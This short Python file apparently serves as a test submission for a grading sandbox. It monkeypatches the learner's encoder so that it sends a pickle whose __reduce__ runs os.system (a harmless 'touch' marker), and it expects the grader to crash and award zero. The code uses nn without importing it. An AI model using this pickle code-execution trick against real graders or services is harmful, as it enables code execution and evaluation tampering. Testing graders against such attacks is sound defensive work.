# Patches the serialiser of its side to send a pickle that would run code.
# gets: 0, crashed
import os
import pickle

import grader.grading.learner_process as process


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/grader-was-here",)


process.encode = lambda value: pickle.dumps(Bomb())


class Square(nn.Module):
    def forward(self, x):
        return x
